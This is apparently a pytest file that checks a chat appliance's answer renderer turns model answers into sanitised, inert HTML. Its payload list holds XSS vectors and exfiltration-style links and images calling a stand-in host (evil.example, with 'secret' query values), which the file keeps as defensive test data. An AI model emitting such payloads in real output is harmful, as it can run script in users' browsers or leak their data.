"""Answers rendered as sanitised HTML: no script, no external links or images, raw HTML escaped."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from appliance.chat.render import render_answer

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="https://evil.example/?c=secret">click</a>',
    "<iframe src=https://evil.example></iframe>",
    "<svg onload=alert(1)>",
    '"><script>alert(1)</script>',
    "<style>body{background:url(https://evil.example/x)}</style>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](https://evil.example/pixel.png?secret=1)",
    "![x](/api/documents)",
    "<https://evil.example/auto>",
    '[x](https://evil.example "t" onmouseover=alert(1))',
    "[ref]\n\n[ref]: https://evil.example/ref",
    "`<script>`<b onclick=alert(1)>bold</b>",
    "<!-- comment --><div style='background:url(https://evil.example)'>x</div>",
    "<form action=https://evil.example><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
]

SAFE_TAGS = {"p", "code", "pre", "strong", "em", "span", "button", "br"}
SAFE_ATTRIBUTES = {"class", "title", "type", "data-marker", "aria-label"}


class Elements(HTMLParser):
    """The elements and attributes a browser would build from the HTML."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attrs: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attrs += [(k, v or "") for k, v in attrs]


def elements(html: str) -> Elements:
    parser = Elements()
    parser.feed(html)
    return parser


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nasty_payloads_render_inert(payload: str) -> None:
    out = render_answer(payload + " [1]", [1])
    found = elements(out)
    assert found.tags <= SAFE_TAGS, out
    assert {k for k, _ in found.attrs} <= SAFE_ATTRIBUTES, out
    for name, value in found.attrs:
        if name != "title":  # an inert link shows its address as a tooltip only
            assert "evil" not in value, out
            assert "javascript" not in value.lower(), out


def test_raw_html_is_escaped_and_shown() -> None:
    out = render_answer("Use <script>alert(1)</script> here")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in out


def test_external_link_is_inert_text_with_its_address() -> None:
    out = render_answer("See [the portal](https://evil.example/?q=secret).")
    assert "<a" not in out
    assert "the portal" in out
    assert "(https://evil.example/?q=secret)" in out


def test_images_are_dropped_for_their_alt_text() -> None:
    out = render_answer("![chart of sales](https://evil.example/c.png)")
    assert "evil.example" not in out
    assert "[image: chart of sales]" in out


def test_markdown_formatting_survives() -> None:
    out = render_answer("# Title\n\n**bold** and *it*\n\n- one\n- two\n\n```\ncode <b>\n```")
    for fragment in ("<h1>Title</h1>", "<strong>bold</strong>", "<em>it</em>", "<li>one</li>"):
        assert fragment in out
    assert "code &lt;b&gt;" in out


def test_only_cited_markers_become_buttons() -> None:
    out = render_answer("Leave is twenty weeks [1], see also [7].", [1])
    assert out.count('class="cite"') == 1
    assert 'data-marker="1"' in out
    assert "[7]" in out


def test_markers_inside_code_stay_text() -> None:
    out = render_answer("`a[1]`", [1])
    assert "cite" not in out
